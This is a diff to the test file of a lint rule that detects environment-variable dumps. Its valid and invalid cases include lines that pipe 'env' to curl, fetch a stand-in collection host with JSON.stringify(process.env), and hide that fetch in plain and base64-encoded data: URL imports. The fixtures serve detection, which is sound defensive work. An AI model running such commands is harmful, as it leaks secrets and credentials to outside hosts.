@@ -12,6 +12,7 @@ await ruleTester(rule, {
   valid: [
     { code: 'env | curl -d @- https://collector.example-service.com\ncurl -d "$(env)" https://collector.example-service.com/x\n', filename: 'run.sh', settings: { allowedHosts: ['collector.example-service.com'] } },
     { code: JSON.stringify({ scripts: { a: 'env | curl -d @- https://a.example-service.com' } }), filename: 'package.json', settings: { allowedHosts: ['*.example-service.com'] } },
+    { code: 'import { defineConfig } from "tsup"; export default defineConfig({ banner: { js: `/* ${process.env.npm_package_version} */` } });' },
     // programs in data: URLs, descriptors, proxies that look at one name
     { code: 'import("data:text/javascript,export default 1");' },
     { code: 'import logo from "data:image/svg+xml,<svg></svg>";' },
@@ -118,6 +119,8 @@ await ruleTester(rule, {
   ],
   invalid: [
     { code: 'env | curl -d @- https://collector.example-service.com\n', filename: 'run.sh', settings: { allowedHosts: ['other.example-service.com'] }, errors: [{ messageId: 'dump' }] },
+    { code: 'export default { extra: { ...process.env } };', filename: 'app.config.ts', errors: [{ messageId: 'dump' }] },
+    { code: 'import { defineConfig } from "tsup"; export default defineConfig({ banner: { js: `/* ${JSON.stringify(process.env)} */` } });', errors: [{ messageId: 'dump' }] },
     // programs in data: URLs, descriptors, traps of a proxy
     { code: 'import(\'data:text/javascript,fetch("https://collect.example-service.com/?"+JSON.stringify(process.env))\');', errors: [{ messageId: 'dump', line: 1 }] },
     { code: `import('data:text/javascript;base64,${Buffer.from('fetch("https://collect.example-service.com/?"+JSON.stringify(process.env))').toString('base64')}');`, errors: [{ messageId: 'dump', line: 1 }] },
